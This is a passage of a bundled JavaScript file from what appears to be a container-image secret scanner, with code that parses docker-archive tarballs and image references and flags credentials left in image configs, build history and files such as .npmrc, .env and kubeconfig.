    while (i < end && (buf[i] === 0x20 || buf[i] === 0))
        i++;
    let digits = 0;
    for (; i < end; i++, digits++) {
        const c = buf[i];
        if (c < 0x30 || c > 0x37)
            break;
        value = value * 8 + (c - 0x30);
    }
    for (; i < end; i++)
        if (buf[i] !== 0x20 && buf[i] !== 0)
            return Number.NaN;
    return value;
}
/**
 * The header checksum: the sum of its bytes with the checksum field read as spaces. Go accepts
 * the unsigned or the signed sum (some old writers used signed chars); so does this.
 */
function checksumOk(header, offset = 0) {
    const stored = readNumber(header, offset + 148, 8);
    if (Number.isNaN(stored))
        return false;
    // Every header is checked: one pass summing bytes, the field's bytes swapped for spaces after.
    let unsigned = 8 * 32;
    for (let i = offset; i < offset + 148; i++)
        unsigned += header[i];
    for (let i = offset + 156; i < offset + BLOCK; i++)
        unsigned += header[i];
    if (stored === unsigned)
        return true;
    let signed = 8 * 32;
    for (let i = offset; i < offset + BLOCK; i++)
        if (i < offset + 148 || i >= offset + 156)
            signed += header[i] > 127 ? header[i] - 256 : header[i];
    return stored === signed;
}
/** True when all 512 bytes are zero (the end-of-archive marker). */
function isZeroBlock(buf, offset = 0) {
    for (let i = offset; i < offset + BLOCK; i++)
        if (buf[i] !== 0)
            return false;
    return true;
}


/***/ }),

/***/ 40637:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   h: () => (/* binding */ resolveDockerArchive)
/* harmony export */ });
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var _util_errors_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(70017);
/* harmony import */ var _archive_index_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(54798);
/* harmony import */ var _config_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(86575);
/**
 * docker-archive:PATH[:REF]: a `docker save` tarball, in the legacy layout (manifest.json with
 * `<id>/layer.tar`) or the one Docker 25+ writes (the same manifest.json pointing into an OCI
 * layout's blobs). Both are read through manifest.json.
 */




function pickImage(entries, source) {
    if (entries.length === 0)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${source.display}: manifest.json lists no image`);
    const tags = entries.flatMap((e) => e.RepoTags ?? []);
    if (!source.tag) {
        if (entries.length === 1)
            return entries[0];
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${source.display}: the archive holds ${entries.length} images; name one as docker-archive:PATH:REF (${tags.join(', ')})`);
    }
    const lastPart = source.tag.slice(source.tag.lastIndexOf('/') + 1);
    const wanted = lastPart.includes(':') ? source.tag : `${source.tag}:latest`;
    const match = entries.find((e) => (e.RepoTags ?? []).some((t) => t === wanted || t === `docker.io/${wanted}` || t === `docker.io/library/${wanted}`));
    if (match)
        return match;
    throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${source.display}: no image tagged "${wanted}" in the archive (tags: ${tags.join(', ') || 'none'})`);
}
function parseArchiveManifest(bytes, display) {
    let value;
    try {
        value = JSON.parse(bytes.toString('utf8'));
    }
    catch (error) {
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${display}: manifest.json is not valid JSON (${error.message})`);
    }
    if (!Array.isArray(value))
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${display}: manifest.json is not a list of images`);
    value.forEach((e, i) => {
        if (typeof e?.Config !== 'string' || !Array.isArray(e.Layers))
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${display}: manifest.json entry ${i} lacks Config or Layers`);
    });
    return value;
}
/** `blobs/sha256/HEX` names carry their digest; legacy `ID/layer.tar` ones do not. */
function digestFromName(name) {
    const m = /(?:^|\/)blobs\/sha256\/([0-9a-f]{64})$/.exec(name) ?? /^([0-9a-f]{64})\.json$/.exec(name);
    return m ? `sha256:${m[1]}` : undefined;
}
async function resolveDockerArchive(source, platform, limits, archivePath = source.path) {
    const archive = await _archive_index_js__WEBPACK_IMPORTED_MODULE_2__/* .ArchiveIndex */ .J.build(archivePath, source.display);
    const manifestMember = archive.get('manifest.json');
    if (!manifestMember)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${source.display}: not a docker-archive (no manifest.json; for an OCI archive use oci-archive:)`);
    const entry = pickImage(parseArchiveManifest(await archive.readMember(manifestMember, limits.maxJsonBytes, 'manifest.json'), source.display), source);
    const configBytes = await archive.readMember(archive.require(entry.Config, 'config'), limits.maxJsonBytes, 'config');
    const configDigest = `sha256:${(0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.createHash)('sha256').update(configBytes).digest('hex')}`;
    const named = digestFromName(entry.Config);
    if (named && named !== configDigest)
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${source.display}: config ${entry.Config} digest mismatch: its name says ${named}, the bytes hash to ${configDigest}`);
    const config = (0,_config_js__WEBPACK_IMPORTED_MODULE_3__/* .parseImageConfig */ .F)(configBytes, source.display);
    if (config.diffIds.length && config.diffIds.length !== entry.Layers.length) {
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .InputError */ .dz(`${source.display}: manifest.json lists ${entry.Layers.length} layers but the config lists ${config.diffIds.length} diff_ids`);
    }
    const layers = entry.Layers.map((name, index) => {
        const member = archive.require(name, `layer ${index}`);
        return {
            index,
            // Legacy layers are stored uncompressed, so the blob is the tar and its digest the diffID.
            digest: digestFromName(name) ?? config.diffIds[index] ?? '',
            size: member.size,
            diffId: config.diffIds[index],
            open: async () => archive.openMember(member),
        };
    });
    return {
        source,
        digest: configDigest,
        platform: config.os ? { os: config.os, architecture: config.architecture } : platform,
        configDigest,
        configBytes,
        layers,
        close: async () => { },
    };
}


/***/ }),

/***/ 79310:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   FH: () => (/* binding */ formatReference),
/* harmony export */   U$: () => (/* binding */ registryHost),
/* harmony export */   i7: () => (/* binding */ canonicalRegistry),
/* harmony export */   jW: () => (/* binding */ isLoopbackRegistry),
/* harmony export */   o_: () => (/* binding */ parseImageReference)
/* harmony export */ });
/* harmony import */ var _util_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(70017);
/** Image references as docker writes them: `[registry/]repository[:tag][@digest]`. */

const DIGEST = /^sha256:[0-9a-f]{64}$/;
const TAG = /^[\w][\w.-]{0,127}$/;
const REPOSITORY = /^[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*(?:\/[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*)*$/;
function parseImageReference(text, options = {}) {
    let rest = text.trim();
    let digest;
    const at = rest.indexOf('@');
    if (at >= 0) {
        digest = rest.slice(at + 1);
        rest = rest.slice(0, at);
        if (!DIGEST.test(digest))
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`image reference "${text}": "${digest}" is not a sha256 digest`);
    }
    let tag;
    const lastSlash = rest.lastIndexOf('/');
    const colon = rest.lastIndexOf(':');
    if (colon > lastSlash) {
        tag = rest.slice(colon + 1);
        rest = rest.slice(0, colon);
        if (!TAG.test(tag))
            throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`image reference "${text}": "${tag}" is not a valid tag`);
    }
    if (options.lowerCase)
        rest = rest.toLowerCase();
    const slash = rest.indexOf('/');
    const first = slash >= 0 ? rest.slice(0, slash) : '';
    const hasRegistry = slash >= 0 && (first.includes('.') || first.includes(':') || first === 'localhost');
    const registry = hasRegistry ? first : 'docker.io';
    let repository = hasRegistry ? rest.slice(slash + 1) : rest;
    if (registry === 'docker.io' && !repository.includes('/'))
        repository = `library/${repository}`;
    if (!REPOSITORY.test(repository))
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`image reference "${text}": "${repository}" is not a valid repository name (lowercase letters, digits, . _ - and /)`);
    if (!tag && !digest)
        tag = 'latest';
    return { registry, repository, ...(tag ? { tag } : {}), ...(digest ? { digest } : {}) };
}
function formatReference(ref) {
    return `${ref.registry}/${ref.repository}${ref.tag ? `:${ref.tag}` : ''}${ref.digest ? `@${ref.digest}` : ''}`;
}
/** The host API requests go to: Docker Hub's API lives on registry-1.docker.io. */
function registryHost(registry) {
    return registry === 'docker.io' || registry === 'index.docker.io' ? 'registry-1.docker.io' : registry;
}
const HOST = /^(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]*[a-z0-9])?)*|\[[0-9a-f:.]+\])(?::\d{1,5})?$/;
/**
 * One name per registry host, to compare where a credential is for with where a request goes:
 * lower-cased, Docker Hub's aliases as `docker.io`, and a URL as `docker login` takes it
 * (`https://index.docker.io/v1/`) reduced to its host. Throws on anything that is not a host[:port].
 */
function canonicalRegistry(text, what = 'registry') {
    const host = text
        .trim()
        .toLowerCase()
        .replace(/^https?:\/\//, '')
        .replace(/\/(?:v[12]\/?)?$/, '');
    if (!HOST.test(host))
        throw new _util_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${what} "${text}": not a registry host (write host[:port], e.g. ghcr.io or 127.0.0.1:5000)`);
    return host === 'index.docker.io' || host === 'registry-1.docker.io' ? 'docker.io' : host;
}
function isLoopbackRegistry(registry) {
    const host = registry.startsWith('[') ? registry.slice(1, registry.indexOf(']')) : registry.split(':')[0];
    return host === 'localhost' || host === '::1' || /^127\.\d{1,3}\.\d{1,3}\.\d{1,3}$/.test(host);
}


/***/ }),

/***/ 76758:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   l: () => (/* binding */ acceptedBy),
/* harmony export */   t: () => (/* binding */ globToRegExp)
/* harmony export */ });
/** `**` any depth, `*` within one segment, `?` one character. */
function globToRegExp(glob) {
    let re = '';
    for (let i = 0; i < glob.length; i++) {
        const c = glob[i];
        if (c === '*' && glob[i + 1] === '*') {
            re += glob[i + 2] === '/' ? '(?:.*/)?' : '.*';
            i += glob[i + 2] === '/' ? 2 : 1;
        }
        else if (c === '*')
            re += '[^/]*';
        else if (c === '?')
            re += '[^/]';
        else
            re += c.replace(/[.+^${}()|[\]\\]/g, '\\$&');
    }
    return new RegExp(`^${re}$`);
}
/** The baseline entry that accepts a finding, if any. */
function acceptedBy(baseline, finding) {
    return baseline?.entries.find((e) => (!e.fingerprint || e.fingerprint === finding.fingerprint) &&
        (!e.rule || e.rule === finding.rule) &&
        (!e.pathPattern || (finding.path !== undefined && e.pathPattern.test(finding.path))));
}


/***/ }),

/***/ 68504:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   GF: () => (/* binding */ configRules),
/* harmony export */   Uj: () => (/* binding */ isSecretAssignment),
/* harmony export */   ro: () => (/* binding */ scanImageConfig)
/* harmony export */ });
/* unused harmony export parseBuildArgs */
/* harmony import */ var _content_scanner_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(19863);
/* harmony import */ var _validators_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(69814);


const configRules = [
    { id: 'env-secret', title: 'Secret-named environment variable set in the image', severity: 'high', help: 'An ENV baked into the image config is visible to anyone who pulls it. Set it at run time from a secret store instead.' },
    { id: 'build-arg-secret', title: 'Secret-named build argument recorded in the image history', severity: 'high', help: 'Build arguments used by RUN are recorded in the image history in plain text. Use a BuildKit secret mount (RUN --mount=type=secret) instead.' },
];
const SECRET_NAME = /(?:secret|token|passw(?:or)?d|pwd|api_?key|access_?key|private_?key|credentials?|auth_?key)$/i;
const NOT_SECRET_NAME = /(?:_file|_path|_url|_id|_name|_user(?:name)?|_header|_ttl|_length|_expiry|^gpg_key|_version)$/i;
/** Whether NAME=value looks like a real secret set by name (not a path, a placeholder or a flag). */
function isSecretAssignment(name, value) {
    if (!SECRET_NAME.test(name) || NOT_SECRET_NAME.test(name))
        return false;
    const v = value.trim();
    return v.length >= 6 && !(0,_validators_js__WEBPACK_IMPORTED_MODULE_1__/* .isPlaceholder */ .wK)(v) && !v.startsWith('/') && !/^(?:true|false|yes|no|none|null|\d+)$/i.test(v);
}
/** Parses `|2 A=1 B=two /bin/sh -c ...` (how the classic builder records build args). */
function parseBuildArgs(createdBy) {
    const m = /^\|(\d+)\s+(.*)$/s.exec(createdBy);
    if (!m)
        return [];
    const count = Number(m[1]);
    const args = [];
    let rest = m[2];
    for (let i = 0; i < count; i++) {
        const a = /^([A-Za-z_][A-Za-z0-9_]*)=((?:"[^"]*"|'[^']*'|\S)*)\s*/.exec(rest);
        if (!a)
            break;
        args.push([a[1], a[2].replace(/^(["'])(.*)\1$/, '$2')]);
        rest = rest.slice(a[0].length);
    }
    return args;
}
function contentMatches(text, where, name, layerIndex) {
    return (0,_content_scanner_js__WEBPACK_IMPORTED_MODULE_0__/* .scanText */ .Ff)(text).map((m) => ({ rule: m.rule.id, severity: m.rule.severity, where, name, secret: m.secret, layerIndex }));
}
/**
 * A token rule's finding stands; otherwise a secret-named NAME=value in the config is a finding
 * by name (high), in place of the generic content rule's medium one.
 */
function bySpecificRules(matches, name, value, byName) {
    const specific = matches.filter((m) => m.rule !== 'generic-secret-assignment');
    if (specific.length)
        return specific;
    return isSecretAssignment(name, value) ? [byName] : matches;
}
function scanImageConfig(config) {
    const found = [];
    for (const entry of config.env) {
        const eq = entry.indexOf('=');
        const name = eq < 0 ? entry : entry.slice(0, eq);
        const value = eq < 0 ? '' : entry.slice(eq + 1);
        found.push(...bySpecificRules(contentMatches(entry, 'env', name), name, value, { rule: 'env-secret', severity: 'high', where: 'env', name, secret: value }));
    }
    for (const [name, value] of Object.entries(config.labels))
        found.push(...contentMatches(`${name}=${value}`, 'label', name));
    const command = [...(config.entrypoint ?? []), ...(config.cmd ?? [])].join(' ');
    if (command)
        found.push(...contentMatches(command, 'cmd', undefined));
    config.history.forEach((step) => {
        const args = parseBuildArgs(step.createdBy);
        for (const [name, value] of args) {
            const byContent = contentMatches(`${name}=${value}`, 'history', name, step.layerIndex);
            found.push(...bySpecificRules(byContent, name, value, { rule: 'build-arg-secret', severity: 'high', where: 'history', name, secret: value, layerIndex: step.layerIndex }));
        }
        const commandText = args.length ? step.createdBy.replace(/^\|\d+\s+(?:[A-Za-z_][A-Za-z0-9_]*=(?:"[^"]*"|'[^']*'|\S)*\s+)*/, '') : step.createdBy;
        const inCommand = contentMatches(commandText, 'history', undefined, step.layerIndex);
        // A build arg's value also appears inside the command that used it, and ENV/LABEL steps repeat
        // what the config already holds: report each secret once.
        const argValues = new Set(args.map(([, v]) => v));
        found.push(...inCommand.filter((m) => !argValues.has(m.secret) && !found.some((f) => f.secret === m.secret)));
    });
    return found;
}


/***/ }),

/***/ 19863:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  SQ: () => (/* binding */ ContentScanner),
  Ff: () => (/* binding */ scanText)
});

// UNUSED EXPORTS: compileRules, looksBinary

;// CONCATENATED MODULE: ./src/scan/keyword-automaton.ts
const ALPHABET = 256;
function foldByte(b) {
    return b >= 0x41 && b <= 0x5a ? b + 32 : b;
}
class KeywordAutomaton {
    /**
     * Transitions: for each state's row and byte, the target state's row offset (state * 256), with
     * the low bit set when keywords end at the target.
     */
    rows;
    /** For each state, the keywords that end there (its own and those via failure links). */
    outputs;
    keywords;
    lengths;
    constructor(keywords) {
        this.keywords = keywords.map((k) => k.toLowerCase());
        this.lengths = this.keywords.map((k) => Buffer.byteLength(k));
        const goto = [new Map()];
        const outputs = [[]];
        this.keywords.forEach((keyword, index) => {
            let state = 0;
            for (const byte of Buffer.from(keyword)) {
                const b = foldByte(byte);
                let to = goto[state].get(b);
                if (to === undefined) {
                    to = goto.length;
                    goto.push(new Map());
                    outputs.push([]);
                    goto[state].set(b, to);
                }
                state = to;
            }
            outputs[state].push(index);
        });
        const states = goto.length;
        const next = new Int32Array(states * ALPHABET);
        const fail = new Int32Array(states);
        // Breadth-first: each state's failure link, then its full transition row.
        const queue = [];
        for (let b = 0; b < ALPHABET; b++) {
            const to = goto[0].get(b) ?? 0;
            next[b] = to;
            if (to !== 0)
                queue.push(to);
        }
        for (let head = 0; head < queue.length; head++) {
            const state = queue[head];
            const failRow = fail[state] * ALPHABET;
            outputs[state].push(...outputs[fail[state]]);
            // A byte without its own edge goes where the failure state's row sends it: copy that row
            // (complete: it is shallower, so done earlier), then set this state's own edges.
            next.copyWithin(state * ALPHABET, failRow, failRow + ALPHABET);
            for (const [b, to] of goto[state]) {
                fail[to] = next[failRow + b];
                next[state * ALPHABET + b] = to;
                queue.push(to);
            }
        }
        this.outputs = outputs;
        // Fold upper-case transitions onto lower-case ones, so matching needs no per-byte folding.
        for (let s = 0; s < states; s++)
            for (let b = 0x41; b <= 0x5a; b++)
                next[s * ALPHABET + b] = next[s * ALPHABET + b + 32];
        // The hot loop's form: each transition holds its target's row offset (state * 256) and, in the
        // low bit (free: offsets are multiples of 256), whether keywords end there, so a byte costs one
        // typed-array read and a mask (23% faster than a second read of a per-state flag).
        for (let i = 0; i < next.length; i++)
            next[i] = next[i] * ALPHABET + (outputs[next[i]].length > 0 ? 1 : 0);
        this.rows = next;
    }
    /** Every keyword occurrence in `buf[from, to)`. */
    search(buf, from = 0, to = buf.length) {
        const hits = [];
        this.forEachHit(buf, (start, keyword) => hits.push({ start, keyword }), from, to);
        return hits;
    }
    /** The scan's form of search: a call per occurrence, in order, and no objects made. */
    forEachHit(buf, onHit, from = 0, to = buf.length) {
        const rows = this.rows;
        let row = 0;
        for (let i = from; i < to; i++) {
            row = rows[(row & -ALPHABET) + buf[i]];
            // row >> 8 is the state (ALPHABET is 256).
            if ((row & 1) !== 0)
                for (const k of this.outputs[row >> 8])
                    onHit(i - this.lengths[k] + 1, k);
        }
    }
}

// EXTERNAL MODULE: ./src/scan/rules.ts
var scan_rules = __webpack_require__(39830);
;// CONCATENATED MODULE: ./src/scan/content-scanner.ts
/**
 * Scans file contents in bounded memory: chunks of about 1 MiB are searched by the keyword
 * automaton, and each rule's pattern runs only in windows around its keywords' hits. A tail of
 * the previous chunk is carried over, so a secret across a chunk boundary is found whole;
 * matches are keyed by absolute offset, so the overlap never reports one twice.
 */


const CHUNK = 1024 * 1024;
/** Longer than the longest secret any rule matches (a 4096-bit RSA key in PEM is about 3.3 KB). */
const OVERLAP = 16 * 1024;
const BINARY_PROBE = 8000;
function windowAfter(rule) {
    if (rule.id === 'private-key')
        return 13_000;
    if (rule.id === 'gcp-service-account-key')
        return 8_000;
    return 700;
}
const WINDOW_BEFORE = 160;
let compiledDefault;
function compileRules(rules = scan_rules/* rules */.aO) {
    if (rules === scan_rules/* rules */.aO && compiledDefault)
        return compiledDefault;
    const keywords = [];
    const rulesOf = [];
    rules.forEach((rule, r) => {
        for (const keyword of rule.keywords) {
            let k = keywords.indexOf(keyword);
            if (k < 0) {
                k = keywords.push(keyword) - 1;
                rulesOf.push([]);
            }
            rulesOf[k].push(r);
        }
    });
    const compiled = { automaton: new KeywordAutomaton(keywords), rulesOf, rules, after: rules.map(windowAfter) };
    if (rules === scan_rules/* rules */.aO)
        compiledDefault = compiled;
    return compiled;
}
/** True when the first bytes hold a NUL: binary content is not pattern-scanned. */
function looksBinary(head) {
    return Buffer.from(head.buffer, head.byteOffset, Math.min(head.length, BINARY_PROBE)).indexOf(0) !== -1;
}
function countLines(buf, from, to) {
    let n = 0;
    for (let i = buf.indexOf(10, from); i >= 0 && i < to; i = buf.indexOf(10, i + 1))
        n++;
    return n;
}
/** Feeds a file's content chunk by chunk; `finish()` returns every accepted match. */
class ContentScanner {
    compiled;
    pending = [];
    pendingBytes = 0;
    tail = Buffer.alloc(0);
    /** Absolute offset of `tail[0]`, and the 1-based line it starts on. */
    tailOffset = 0;
    tailLine = 1;
    seen = new Set();
    matches = [];
    binary;
    bytes = 0;
    constructor(compiled = compileRules()) {
        this.compiled = compiled;
    }
    push(chunk) {
        this.bytes += chunk.length;
        if (this.binary === undefined)
            this.binary = looksBinary(chunk);
        if (this.binary)
            return;
        this.pending.push(chunk);
        this.pendingBytes += chunk.length;
        if (this.pendingBytes >= CHUNK)
            this.flush(false);
    }
    finish() {
        if (!this.binary)
            this.flush(true);
        return dropShadowed(this.matches);
    }
    flush(final) {
        if (this.pendingBytes === 0 && !final)
            return;
        // Most files are one chunk with no tail before it: scanned in place, not copied.
        const buf = this.tail.length === 0 && this.pending.length === 1 ? this.pending[0] : Buffer.concat([this.tail, ...this.pending]);
        this.pending = [];
        this.pendingBytes = 0;
        this.scanBuffer(buf);
        if (!final) {
            const keep = Math.min(OVERLAP, buf.length);
            const cut = buf.length - keep;
            this.tailLine += countLines(buf, 0, cut);
            this.tailOffset += cut;
            this.tail = Buffer.from(buf.subarray(cut));
        }
    }
    scanBuffer(buf) {
        const { automaton, rulesOf, rules, after } = this.compiled;
        // One flat list of [start, end) windows per rule, merged where they overlap; rules in the
        // order of their first hit.
        const windows = [];
        const order = [];
        const length = buf.length;
        automaton.forEachHit(buf, (hitStart, keyword) => {
            const start = hitStart > WINDOW_BEFORE ? hitStart - WINDOW_BEFORE : 0;
            for (const r of rulesOf[keyword]) {
                const end = Math.min(length, hitStart + after[r]);
                const list = windows[r];
                if (list === undefined) {
                    windows[r] = [start, end];
                    order.push(r);
                }
                else if (start <= list[list.length - 1]) {
                    if (end > list[list.length - 1])
                        list[list.length - 1] = end;
                }
                else
                    list.push(start, end);
            }
        });
        for (const r of order) {
            const rule = rules[r];
            const list = windows[r];
            for (let i = 0; i < list.length; i += 2)
                this.runRule(rule, buf, list[i], list[i + 1]);
        }
    }
    runRule(rule, buf, start, end) {
        // latin1 keeps one character per byte, so string offsets are byte offsets.
        const text = buf.toString('latin1', start, end);
        if (rule.precheck && !rule.precheck.test(text))
            return;
        // The rule's own (global) RegExp, rewound: this loop is synchronous, so no one else is using it.
        const re = rule.pattern;
        re.lastIndex = 0;
        for (let m = re.exec(text); m; m = re.exec(text)) {
            if (m[0].length === 0) {
                re.lastIndex++;
                continue;
            }
            const secret = m.groups?.s ?? m[0];
            const secretIndex = m.index + m[0].indexOf(secret);
            const offset = this.tailOffset + start + secretIndex;
            const key = `${rule.id}@${offset}`;
            if (this.seen.has(key) || !(0,scan_rules/* acceptsSecret */.AC)(rule, secret, m[0]))
                continue;
            this.seen.add(key);
            const line = this.tailLine + countLines(buf, 0, start + secretIndex);
            this.matches.push({ rule, secret, line, offset });
        }
    }
}
/** Broad rules yield to specific ones: a token already named by its own rule is not also "generic". */
const BROAD = new Set(['generic-secret-assignment', 'url-basic-auth', 'private-key', 'database-url-password']);
function dropShadowed(matches) {
    return matches.filter((m) => !BROAD.has(m.rule.id) ||
        !matches.some((other) => other !== m && !BROAD.has(other.rule.id) && other.offset < m.offset + m.secret.length && m.offset < other.offset + other.secret.length));
}
/** Scans one whole buffer (config values, small files). */
function scanText(text, compiled) {
    const scanner = new ContentScanner(compiled);
    scanner.push(Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8'));
    return scanner.finish();
}


/***/ }),

/***/ 34962:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Wq: () => (/* binding */ credentialFileKind),
/* harmony export */   _h: () => (/* binding */ fileRules),
/* harmony export */   cz: () => (/* binding */ checkCredentialFile)
/* harmony export */ });
/* harmony import */ var _validators_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(69814);

const MOVE = 'Do not COPY it into the image: mount it at run time or use a BuildKit secret mount for the build.';
const fileRules = [
    { id: 'dotenv-secret', title: 'Secret in a .env file', severity: 'high', help: `A .env file with a secret-named key set to a real value. ${MOVE}` },
    { id: 'npmrc-auth-token', title: '.npmrc with an auth token', severity: 'critical', help: `An .npmrc carrying _authToken or _auth. ${MOVE} Use \${NPM_TOKEN} from the environment.` },
    { id: 'docker-config-auth', title: 'Docker config with registry credentials', severity: 'critical', help: `A .docker/config.json with auths. ${MOVE}` },
    { id: 'git-credentials', title: '.git-credentials with a password or token', severity: 'critical', help: `Git's credential store file. ${MOVE}` },
    { id: 'kubeconfig-credential', title: 'Kubeconfig with a token or client key', severity: 'critical', help: `A kubeconfig that can act on a cluster. ${MOVE}` },
    { id: 'pypirc-password', title: '.pypirc with a password', severity: 'high', help: `PyPI upload credentials. ${MOVE}` },
    { id: 'terraform-state', title: 'Terraform state file', severity: 'high', help: `Terraform state holds resource secrets in plain text. ${MOVE}` },
    { id: 'keystore-file', title: 'PKCS#12 or Java keystore', severity: 'high', help: `A keystore holds private keys. ${MOVE}` },
];
function credentialFileKind(path) {
    const base = path.slice(path.lastIndexOf('/') + 1);
    const lower = base.toLowerCase();
    if (/^\.env(?:\.[\w.-]+)?$/.test(base) && !/\.(?:example|sample|template|dist|defaults?|tmpl|tpl)$/i.test(base))
        return 'dotenv';
    if (base === '.npmrc' || base === 'npmrc')
        return 'npmrc';
    if (path.endsWith('/.docker/config.json'))
        return 'docker-config';
    if (base === '.git-credentials')
        return 'git-credentials';
    if ((path.endsWith('/.kube/config') || lower === 'kubeconfig' || lower.endsWith('.kubeconfig')))
        return 'kubeconfig';
    if (base === '.pypirc')
        return 'pypirc';
    if (lower === 'terraform.tfstate' || lower.endsWith('.tfstate') || lower.endsWith('.tfstate.backup'))
        return 'tfstate';
    if (/\.(?:p12|pfx|jks|jceks|keystore)$/.test(lower))
        return 'keystore';
    return undefined;
}
const SECRET_KEY = /(?:secret|token|passw(?:or)?d|pwd|api[_-]?key|access[_-]?key|private[_-]?key|credential|auth|dsn|database_url|conn(?:ection)?_?str)/i;
function lines(text) {
    return text.split('\n').map((l, i) => [i + 1, l]);
}
function unquote(value) {
    const v = value.trim();
    return /^(["']).*\1$/.test(v) ? v.slice(1, -1) : v.replace(/\s+#.*$/, '');
}
/** Confirms a credential file by its structure; returns what in it is the secret. */
function checkCredentialFile(kind, content) {
    if (kind === 'keystore') {
        const pkcs12 = content[0] === 0x30 && (content[1] === 0x82 || content[1] === 0x83 || content[1] === 0x80);
        const jks = content.readUInt32BE(0) === 0xfeedfeed || content.readUInt32BE(0) === 0xcececece;
        return content.length >= 4 && (pkcs12 || jks) ? [{ rule: 'keystore-file', secret: content.subarray(0, 32).toString('hex') }] : [];
    }
    const text = content.toString('utf8');
    const found = [];
    for (const [line, raw] of lines(text)) {
        const l = raw.trim();
        if (!l || l.startsWith('#'))
            continue;
        let m;
        switch (kind) {
            case 'dotenv':
                m = /^(?:export\s+)?([A-Za-z_][A-Za-z0-9_.-]*)\s*=\s*(.*)$/.exec(l);
                if (m && SECRET_KEY.test(m[1]) && !/_(?:FILE|PATH|URL_PATH|ID|NAME|USER(?:NAME)?|HEADER|TTL|LENGTH)$/i.test(m[1])) {
                    const value = unquote(m[2]);
                    if (value.length >= 6 && !(0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholder */ .wK)(value) && !/^(?:true|false|null|none|\d+)$/i.test(value))
                        found.push({ rule: 'dotenv-secret', secret: value, line });
                }
                break;
            case 'npmrc':
                m = /(?:_authToken|_auth|_password)\s*=\s*(.+)$/.exec(l);
                if (m && !(0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholder */ .wK)(unquote(m[1])))
                    found.push({ rule: 'npmrc-auth-token', secret: unquote(m[1]), line });
                break;
            case 'git-credentials':
                m = /^[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:([^@\s]+)@/.exec(l);
                if (m && !(0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholder */ .wK)(m[1]))
                    found.push({ rule: 'git-credentials', secret: m[1], line });
                break;
            case 'kubeconfig':
                m = /^(?:-\s+)?(token|client-key-data|password)\s*:\s*(\S+)$/.exec(l);
                if (m && !(0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholder */ .wK)(unquote(m[2])) && unquote(m[2]).length >= 8)
                    found.push({ rule: 'kubeconfig-credential', secret: unquote(m[2]), line });
                break;
            case 'pypirc':
                m = /^password\s*[:=]\s*(.+)$/.exec(l);
                if (m && !(0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholder */ .wK)(unquote(m[1])))
                    found.push({ rule: 'pypirc-password', secret: unquote(m[1]), line });
                break;
            default:
                break;
        }
    }
    if (kind === 'docker-config') {
        try {
            const auths = JSON.parse(text).auths ?? {};
            for (const [registry, entry] of Object.entries(auths)) {
                const secret = entry.auth || entry.identitytoken;
                if (secret)
                    found.push({ rule: 'docker-config-auth', secret, line: lineOf(text, secret) });
                else if (registry && entry && Object.keys(entry).length === 0)
                    continue;
            }
        }
        catch {
            // Not JSON: not a docker config after all.
        }
    }
    if (kind === 'tfstate' && /"terraform_version"/.test(text) && /"resources"\s*:\s*\[\s*\{/.test(text)) {
        found.push({ rule: 'terraform-state', secret: text.slice(0, 64) });
    }
    return found;
}
function lineOf(text, needle) {
    const at = text.indexOf(needle);
    return at < 0 ? undefined : text.slice(0, at).split('\n').length;
}


/***/ }),

/***/ 77534:
